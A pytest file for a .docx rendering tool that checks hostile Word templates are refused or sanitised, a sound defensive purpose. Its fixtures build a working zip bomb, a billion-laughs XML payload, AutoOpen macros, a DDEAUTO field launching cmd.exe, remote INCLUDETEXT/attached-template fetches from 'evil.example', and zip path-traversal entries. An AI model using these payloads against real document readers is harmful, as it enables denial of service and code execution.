"""Templates from elsewhere: read with the package limits, sanitised, and refused as ``vbhc check`` would.

Every hostile template here is built by code from the shipped one. A template that cannot be read is
refused in one line with exit 2 (``render --template``, a profile's ``template:``, ``vbhc.validate``);
one that can is rendered with only its look carried over, and the output passes ``vbhc check``.
"""

from __future__ import annotations

import io
import re
import resource
import struct
import subprocess
import sys
import warnings
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import vbhc
from tests.conftest import EXAMPLES
from vbhc.check import check
from vbhc.cli import main
from vbhc.errors import TemplateError
from vbhc.pipeline import load_template, probe_documents, template_findings
from vbhc.writers.docx.template import Template, build_template
from vbhc.writers.docx.writer import render_bytes

SPEC = EXAMPLES / "ke-hoach-hoang-kim.yaml"
HOANG_KIM = (EXAMPLES / "profiles" / "xa-hoang-kim.yaml").read_text(encoding="utf-8")
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
PR = "http://schemas.openxmlformats.org/package/2006/relationships"
SANITISED = {"[Content_Types].xml", "_rels/.rels", "docProps/core.xml", "docProps/app.xml",
             "word/document.xml", "word/_rels/document.xml.rels", "word/styles.xml", "word/settings.xml",
             "word/fontTable.xml", "word/header1.xml", "word/header2.xml"}


# --------------------------------------------------------------------------------------------
# Building templates by code


def members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def repack(items: list[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of a duplicate name, which one case wants
        for name, data in items:
            archive.writestr(name, data)
    return out.getvalue()


def profile_with(folder: Path, template_ref: str | Path) -> tuple[Path, int]:
    """The Hoàng Kim profile naming ``template_ref``; and the line of its ``template`` key."""
    path = folder / "p.yaml"
    path.write_text(f"{HOANG_KIM}template: {template_ref}\n", encoding="utf-8")
    return path, HOANG_KIM.count("\n") + 1


def template(edits: dict[str, Callable[[str], str]] | None = None,
             extra: list[tuple[str, bytes]] = ()) -> bytes:
    """The shipped template with parts rewritten by ``edits`` and ``extra`` members added."""
    parts = members(build_template())
    for name, edit in (edits or {}).items():
        parts[name] = edit(parts[name].decode("utf-8")).encode("utf-8")
    return repack([*parts.items(), *extra])


def insert(before: str, text: str) -> Callable[[str], str]:
    def edit(xml: str) -> str:
        assert before in xml, before
        return xml.replace(before, text + before, 1)
    return edit


def relationship(rid: str, kind: str, target: str, external: bool = False) -> Callable[[str], str]:
    mode = ' TargetMode="External"' if external else ""
    return insert("</Relationships>",
                  f'<Relationship Id="{rid}" Type="{OFFICE}{kind}" Target="{target}"{mode}/>')


def inside(start: str, end: str, old: str, new: str) -> Callable[[str], str]:
    """An edit of styles.xml that replaces ``old`` by ``new`` between ``start`` and the next ``end``."""
    def edit(xml: str) -> str:
        first = xml.index(start)
        last = xml.index(end, first)
        assert old in xml[first:last], old
        return xml[:first] + xml[first:last].replace(old, new, 1) + xml[last:]
    return edit


def in_body_style(old: str, new: str) -> Callable[[str], str]:
    """The edit inside the VbhcBody style only."""
    return inside('w:styleId="VbhcBody"', "</w:style>", old, new)


def in_defaults(old: str, new: str) -> Callable[[str], str]:
    """The edit inside w:docDefaults only."""
    return inside("<w:docDefaults>", "</w:docDefaults>", old, new)


def theme_font_template(with_theme: bool) -> bytes:
    """VbhcBody takes its font from the theme (``w:asciiTheme``), as Word's own styles do."""
    edits = {"word/styles.xml": in_body_style(
        "<w:rPr>", '<w:rPr><w:rFonts w:asciiTheme="minorHAnsi" w:hAnsiTheme="minorHAnsi"/>')}
    extra: list[tuple[str, bytes]] = []
    if with_theme:
        a = "http://schemas.openxmlformats.org/drawingml/2006/main"
        theme = (f'<a:theme xmlns:a="{a}" name="Office"><a:themeElements><a:fontScheme name="Office">'
                 '<a:majorFont><a:latin typeface="Calibri Light"/><a:ea typeface=""/><a:cs typeface=""/>'
                 '</a:majorFont><a:minorFont><a:latin typeface="Calibri"/><a:ea typeface=""/>'
                 '<a:cs typeface=""/></a:minorFont></a:fontScheme></a:themeElements></a:theme>')
        extra.append(("word/theme/theme1.xml", theme.encode()))
        edits["word/_rels/document.xml.rels"] = relationship("rIdTheme", "theme", "theme/theme1.xml")
        edits["[Content_Types].xml"] = insert("</Types>", (
            '<Override PartName="/word/theme/theme1.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.theme+xml"/>'))
    return template(edits, extra)


def bomb(declared: int | None = None) -> bytes:
    """The shipped template plus a member that inflates to 1 GiB of zeros from about 1 MB (a real zip,
    CRC included; ``declared`` makes its headers lie about the size)."""
    size = 1 << 30
    chunk = bytes(1 << 20)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = deflate.compress(chunk) + deflate.flush(zlib.Z_FULL_FLUSH)  # the same bytes for every chunk
    data = block * (size // len(chunk)) + zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    crc = 0
    for _ in range(size // len(chunk)):
        crc = zlib.crc32(chunk, crc)
    entries = [(name, 0, zlib.crc32(raw), raw, len(raw)) for name, raw in members(build_template()).items()]
    entries.append(("word/media/bomb.bin", 8, crc, data, declared or size))
    out, central = bytearray(), bytearray()
    for name, method, crc32, payload, usize in entries:
        offset = len(out)
        encoded = name.encode()
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc32, len(payload), usize,
                           len(encoded), 0) + encoded + payload
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0x21, crc32,
                               len(payload), usize, len(encoded), 0, 0, 0, 0, 0, offset) + encoded
    start = len(out)
    out += central + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central),
                                 start, 0)
    return bytes(out)


def deep_chain(depth: int) -> bytes:
    """VbhcBody based on a chain of ``depth`` styles."""
    chain = "".join(f'<w:style w:type="paragraph" w:styleId="Deep{i}"><w:name w:val="Deep {i}"/>'
                    f'<w:basedOn w:val="{f"Deep{i + 1}" if i + 1 < depth else "Normal"}"/></w:style>'
                    for i in range(depth))

    def edit(xml: str) -> str:
        own = xml[xml.index('w:styleId="VbhcBody"'):]
        based = own[:own.index("</w:style>")]
        deeper = based.replace('<w:basedOn w:val="Normal"/>', '<w:basedOn w:val="Deep0"/>')
        xml = xml.replace(based, deeper, 1)
        return xml.replace("</w:styles>", chain + "</w:styles>")
    return template({"word/styles.xml": edit})


def page_width(attribute: str) -> bytes:
    """The page width attribute of the template's ``w:pgSz`` replaced by ``attribute``."""
    return template({"word/document.xml": lambda x: re.sub(r' w:w="\d+"', attribute, x, count=1)})


BILLION_LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                  + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">'
                            for i in range(1, 10))
                  + ']><w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                    "&lol9;</w:styles>")

NOT_A_WIDTH = "w:pgSz w:w is not a length in twips up to 31680"
# name -> (template bytes, what the one-line refusal says)
REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "malformed XML": (lambda: template({"word/styles.xml": lambda x: x.replace("</w:styles>", "")}),
                      "word/styles.xml is not well-formed XML"),
    "pgSz without w:w": (lambda: page_width(""), f"{NOT_A_WIDTH}; found nothing"),
    "w:w=A4": (lambda: page_width(' w:w="A4"'), f"{NOT_A_WIDTH}; found 'A4'"),
    "5,000-digit size": (lambda: page_width(f' w:w="{"9" * 5000}"'), f"{NOT_A_WIDTH}; found '{'9' * 20}…'"),
    "5,000-digit font size": (lambda: template({"word/styles.xml": in_body_style(
        '<w:sz w:val="28"/>', f'<w:sz w:val="{"9" * 5000}"/>')}),
        f"style VbhcBody: w:sz '{'9' * 20}…' is not a font size Word can set (1–1638 pt)"),
    "5,000-digit default size": (lambda: template({"word/styles.xml": in_defaults(
        '<w:sz w:val="28"/>', f'<w:sz w:val="{"9" * 5000}"/>')}),
        f"docDefaults: w:sz '{'9' * 20}…' is not a font size Word can set (1–1638 pt)"),
    "20,000-deep basedOn": (lambda: deep_chain(20_000), "style VbhcBody: its w:basedOn chain is 64 or more"),
    "billion laughs": (lambda: template({"word/styles.xml": lambda _: BILLION_LAUGHS}),
                       "word/styles.xml: XML with a DTD or entities is not accepted"),
    "duplicate document": (lambda: template(extra=[("word/document.xml", members(build_template())[
        "word/document.xml"])]), "the package has two members named 'word/document.xml'"),
    "not a zip": (lambda: b"%PDF-1.7 a PDF named .docx", "not a .docx file (not a zip archive)"),
    "1 GiB zip bomb": (bomb, "suspicious compression ratio"),
    # headers that claim 150 MB pass the header check; the bytes actually inflated are counted
    "1 GiB zip bomb, headers lying": (lambda: bomb(declared=150 << 20),
                                      "larger than 50 MB when decompressed"),
}


@pytest.fixture(scope="module")
def refused(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("refused")
    out = {}
    for name, (build, _) in REFUSED.items():
        out[name] = folder / (re.sub(r"\W+", "-", name) + ".docx")
        out[name].write_bytes(build())
    return out


# --------------------------------------------------------------------------------------------
# Refused: one line, exit 2, no traceback, no output; the API never raises


@pytest.mark.parametrize("case", list(REFUSED))
def test_a_bad_template_is_refused_in_one_line(case: str, refused: dict[str, Path], tmp_path: Path,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    path, message = refused[case], REFUSED[case][1]
    with pytest.raises(TemplateError) as info:
        Template.from_path(path)
    assert str(info.value).startswith(f"{path}: ") and message in str(info.value)
    assert len(str(info.value).splitlines()) == 1
    out = tmp_path / "o.docx"
    assert main(["render", str(SPEC), "--template", str(path), "-o", str(out)]) == 2
    err = capsys.readouterr().err
    assert err.startswith("vbhc: error: ") and message in err and "Traceback" not in err
    assert not out.exists()
    profile, line = profile_with(tmp_path, path)
    document, errors, _ = vbhc.validate(SPEC, profile=profile)  # documented as never raising
    assert document is None and len(errors) == 1
    assert str(errors[0]).startswith(f"{profile}:{line}: template: expected a template within the decree's "
                                     "ranges; found ")
    assert message in str(errors[0])


def limited_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (768 << 20, 768 << 20))


@pytest.mark.parametrize("case", ["1 GiB zip bomb, headers lying", "billion laughs", "20,000-deep basedOn"])
def test_refused_in_bounded_time_and_memory(case: str, refused: dict[str, Path], tmp_path: Path) -> None:
    out = tmp_path / "o.docx"
    profile, _ = profile_with(tmp_path, refused[case])
    for command in (["render", str(SPEC), "--template", str(refused[case]), "-o", str(out)],
                    ["validate", str(SPEC), "--profile", str(profile)]):
        result = subprocess.run([sys.executable, "-m", "vbhc", *command], capture_output=True, text=True,
                                timeout=60, preexec_fn=limited_memory)
        assert result.returncode == 2, result.stderr
        assert REFUSED[case][1] in result.stderr and "Traceback" not in result.stderr
    assert not out.exists() and list(tmp_path.iterdir()) == [profile]


def test_the_bomb_is_a_real_one() -> None:
    with zipfile.ZipFile(io.BytesIO(bomb())) as archive:
        info = archive.getinfo("word/media/bomb.bin")
        assert info.file_size == 1 << 30 and info.compress_size < 2 << 20
        with archive.open(info) as member:
            assert member.read(16 << 20) == bytes(16 << 20)


# --------------------------------------------------------------------------------------------
# Refused with the checker's finding: a theme font


@pytest.mark.parametrize(("with_theme", "face"), [(False, "not set (the application's default)"),
                                                  (True, "Calibri")])
def test_a_theme_font_is_refused_with_the_checkers_finding(with_theme: bool, face: str, tmp_path: Path,
                                                            capsys: pytest.CaptureFixture[str]) -> None:
    data = theme_font_template(with_theme)
    # What vbhc check says of a document rendered with it, when nothing stops the render:
    rendered = render_bytes(probe_documents()[0], Template(data, strict=False))
    findings = [f for f in check(rendered).findings if f.rule.id == "font.family"]
    assert [f.found for f in findings] == [face] and len(findings[0].paragraphs) > 10
    same = findings[0].line()
    assert same.startswith("font.family [PL I, I.4] ")
    assert same.endswith(f"expected Times New Roman; found {face}")

    path = tmp_path / "mau.docx"
    path.write_bytes(data)
    with pytest.raises(TemplateError) as info:
        load_template(path)
    assert f"{path}: a document rendered with it fails vbhc check: {same}" in str(info.value).splitlines()
    out = tmp_path / "o.docx"
    assert main(["render", str(SPEC), "--template", str(path), "-o", str(out)]) == 2
    refusal = f"{path}: a document rendered with it fails vbhc check: {same}"
    assert f"vbhc: error: {refusal}" in capsys.readouterr().err
    assert not out.exists()
    profile, line = profile_with(tmp_path, "mau.docx")
    assert main(["validate", str(SPEC), "--profile", str(profile)]) == 2
    assert (f"{profile}:{line}: template: expected a template within the decree's ranges; found "
            f"{refusal}") in capsys.readouterr().err
    with pytest.raises(TemplateError, match=r"font\.family"):
        vbhc.render(probe_documents()[0], tmp_path / "api.docx", template=path)
    assert not (tmp_path / "api.docx").exists()


def test_vbhc_template_checks_what_it_writes(monkeypatch: pytest.MonkeyPatch, tmp_path: Path,
                                            capsys: pytest.CaptureFixture[str]) -> None:
    """The same gate stands before ``vbhc template`` writes (here with a builder that goes wrong)."""
    import vbhc.writers.docx.template as builder

    monkeypatch.setattr(builder, "build_template", lambda fmt=None: theme_font_template(with_theme=False))
    out = tmp_path / "t.docx"
    assert main(["template", "-o", str(out)]) == 2
    assert f"vbhc: error: {out}: a document rendered with it fails vbhc check: font.family" in (
        capsys.readouterr().err)
    assert not out.exists()


def test_what_validate_accepts_render_renders(tmp_path: Path) -> None:
    profile = EXAMPLES / "profiles" / "xa-quang-phu.yaml"
    assert main(["validate", str(SPEC), "--profile", str(profile)]) == 0
    out = tmp_path / "o.docx"
    assert main(["render", str(SPEC), "--profile", str(profile), "-o", str(out)]) == 0
    assert check(out.read_bytes()).errors == 0


def test_a_template_is_checked_once_for_read_and_render(monkeypatch: pytest.MonkeyPatch,
                                                        tmp_path: Path) -> None:
    """The probe renders are remembered by the template's contents: validate then render checks once,
    and a changed template is checked anew."""
    import vbhc.check as checker
    import vbhc.pipeline as pipeline

    monkeypatch.setattr(pipeline, "_CHECKED", type(pipeline._CHECKED)())
    calls: list[str] = []
    real = checker.check

    def counting(*args: object, **kwargs: object) -> object:
        calls.append("check")
        return real(*args, **kwargs)

    monkeypatch.setattr(checker, "check", counting)
    profile = EXAMPLES / "profiles" / "xa-quang-phu.yaml"
    assert main(["render", str(SPEC), "--profile", str(profile), "-o", str(tmp_path / "o.docx")]) == 0
    assert len(calls) == len(probe_documents())
    assert main(["render", str(SPEC), "--profile", str(profile), "-o", str(tmp_path / "o.docx")]) == 0
    assert len(calls) == len(probe_documents())
    template_findings(Template(build_template()))
    assert len(calls) == 2 * len(probe_documents())


def test_the_probe_uses_every_role_and_page_numbers() -> None:
    from vbhc.layout import lay_out
    from vbhc.nd30 import Role

    assert {line.role for d in probe_documents() for line in lay_out(d).all_lines()} == set(Role)
    report = check(render_bytes(probe_documents()[0]))
    assert report.findings == []
    assert {"page-number.present", "page-number.size"} <= {r.id for r in report.passed}
    assert template_findings(Template(build_template())) == []


# --------------------------------------------------------------------------------------------
# Sanitised: only the look is carried over


def header_field(instruction: str, result: str = "x") -> str:
    """A paragraph holding a complex field, as Word writes one."""
    return ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f'<w:r><w:instrText xml:space="preserve"> {instruction} </w:instrText></w:r>'
            f'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{result}</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


# An IF field around a PAGE field: only a PAGE field on its own is kept.
NESTED = ''.join(f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' if kind else f"<w:r>{text}</w:r>"
                 for kind, text in [("begin", ""), ("", "<w:instrText>IF </w:instrText>"), ("begin", ""),
                                    ("", "<w:instrText>PAGE</w:instrText>"), ("separate", ""),
                                    ("", "<w:t>1</w:t>"), ("end", ""),
                                    ("", '<w:instrText xml:space="preserve"> = 1 "one" </w:instrText>'),
                                    ("separate", ""), ("", "<w:t>one</w:t>"), ("end", "")])
GALLERY = ('<w:sdt><w:sdtPr><w:docPartObj><w:docPartGallery w:val="Page Numbers (Top of Page)"/>'
           "</w:docPartObj></w:sdtPr>")
ASIDE = [("customXml/item1.xml", b"<root/>"), ("docProps/custom.xml", b"<Properties/>"),
         ("word/webSettings.xml", b"<w:webSettings xmlns:w='http://schemas.openxmlformats.org/"
                                  b"wordprocessingml/2006/main'/>")]
SANITISED_CASES: dict[str, tuple[Callable[[], bytes], tuple[str, ...]]] = {
    # name -> (template, strings no member of the output may hold)
    "macros": (lambda: template({
        "word/_rels/document.xml.rels": relationship("rIdVba", "vbaProject", "vbaProject.bin"),
        "[Content_Types].xml": lambda x: x.replace(
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml").replace(
            "</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                        "</Types>")},
        [("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 Attribute VB_Name = \"AutoOpen\"")]),
        ("vbaProject", "macroEnabled", "AutoOpen")),
    "DDEAUTO and INCLUDETEXT fields in the header": (lambda: template({"word/header1.xml": insert(
        "</w:hdr>", header_field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"')
        + header_field('INCLUDETEXT "http://evil.example/x.docx"'))}),
        ("DDEAUTO", "INCLUDETEXT", "evil", "cmd")),
    "INCLUDEPICTURE as a simple field, PAGE nested in an IF field": (lambda: template({
        "word/header1.xml": insert("</w:p></w:hdr>", (
            '<w:fldSimple w:instr=\'INCLUDEPICTURE "http://evil.example/p.png" \\d\'>'
            "<w:r><w:t>pic</w:t></w:r></w:fldSimple>" + NESTED))}), ("INCLUDEPICTURE", "evil", "IF ", "pic")),
    "external relationships and an attached template": (lambda: template({
        "word/_rels/document.xml.rels": relationship("rIdX", "image", "http://evil.example/x.png",
                                                     external=True),
        "word/settings.xml": insert("<w:defaultTabStop", '<w:attachedTemplate r:id="rIdT"/><w:mailMerge>'
                                    '<w:connectString w:val="DSN=evil"/></w:mailMerge>')},
        [("word/_rels/settings.xml.rels", (
            f'<Relationships xmlns="{PR}"><Relationship Id="rIdT" Type="{OFFICE}attachedTemplate" '
            'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>').encode())]),
        ("External", "evil", "attachedTemplate", "mailMerge")),
    "a picture in the header": (lambda: template({
        "word/header1.xml": insert("</w:p></w:hdr>", (
            '<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
            'wordprocessingDrawing"><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
            'r:embed="rIdImg"/></wp:inline></w:drawing></w:r>'))},
        [("word/_rels/header1.xml.rels", (f'<Relationships xmlns="{PR}"><Relationship Id="rIdImg" '
                                          f'Type="{OFFICE}image" Target="media/evil.png"/></Relationships>'
                                          ).encode()),
         ("word/media/evil.png", b"\x89PNG evil")]), ("drawing", "rIdImg", "evil")),
    "the page number in a content control, as Word's page-number gallery puts it": (lambda: template({
        "word/header1.xml": lambda x: x.replace("<w:p>", GALLERY + "<w:sdtContent><w:p>", 1).replace(
            "</w:p>", "</w:p></w:sdtContent></w:sdt>", 1)}), ("sdt", "docPart")),
    "unknown members and a path out of the folder": (lambda: template(extra=[
        *ASIDE, ("../../evil.txt", b"evil"), ("word/../../evil2.txt", b"evil")]),
        ("evil", "customXml", "webSettings")),
}


@pytest.mark.parametrize("case", list(SANITISED_CASES))
def test_only_the_look_of_a_template_is_carried_over(case: str, tmp_path: Path) -> None:
    build, banned = SANITISED_CASES[case]
    path = tmp_path / "mau.docx"
    path.write_bytes(build())
    out = tmp_path / "out" / "o.docx"
    out.parent.mkdir()
    assert main(["render", str(SPEC), "--template", str(path), "-o", str(out)]) == 0
    parts = members(out.read_bytes())
    assert set(parts) == SANITISED
    for name, data in parts.items():
        for word in banned:
            assert word.encode() not in data, (name, word)
    assert b"PAGE" in parts["word/header1.xml"]  # the page number field stays
    assert check(out.read_bytes()).errors == 0
    assert list(tmp_path.rglob("*evil*")) == []


def test_the_shipped_template_passes_whole() -> None:
    """Sanitising a clean template changes nothing: its parts are copied byte for byte."""
    shipped = members(build_template())
    kept = dict(Template(build_template()).parts)
    assert set(kept) == set(shipped)
    assert {n: kept[n] for n in kept if n != "docProps/core.xml"} == {
        n: shipped[n] for n in shipped if n != "docProps/core.xml"}  # the writer replaces core.xml


# --------------------------------------------------------------------------------------------
# Any value in any attribute: loaded, or refused in one line


ATTRIBUTES = [(part, m.start(1), m.end(1)) for part in ("word/styles.xml", "word/document.xml")
              for m in re.finditer(r'w:[A-Za-z]+="([^"]*)"', members(build_template())[part].decode())]
JUNK = st.sampled_from(["", "A4", "-1", "0", "9" * 5000, "1e999", "NaN", "-99999", "12.5pt", "3276", "auto"])


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(ATTRIBUTES), JUNK)
def test_any_attribute_value_loads_or_is_refused(where: tuple[str, int, int], junk: str) -> None:
    part, start, end = where
    xml = members(build_template())[part].decode()
    data = template({part: lambda _: xml[:start] + junk + xml[end:]})
    try:
        template_ = load_template(data, "t.docx")
    except TemplateError as exc:
        assert all(line.startswith("t.docx: ") for line in str(exc).splitlines())
        return
    assert check(render_bytes(probe_documents()[0], template_)).findings == []
